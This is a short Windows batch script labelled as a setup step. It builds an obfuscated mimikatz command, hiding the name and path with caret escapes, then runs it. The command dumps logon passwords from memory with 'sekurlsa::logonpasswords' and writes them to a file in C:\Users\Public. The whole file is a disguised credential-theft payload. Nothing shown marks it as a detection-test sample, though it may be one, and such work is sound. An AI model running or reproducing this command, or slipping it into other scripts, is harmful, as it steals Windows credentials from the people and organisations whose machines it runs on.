REM setup 6173 v1
@echo off
set svjt=^mimik^at^z.e^x^e "privilege::debug" "sekurlsa::logonpasswords" "exit" ^> C:\^U^s^ers\^Pub^lic\^m.tx^t
call %svjt%
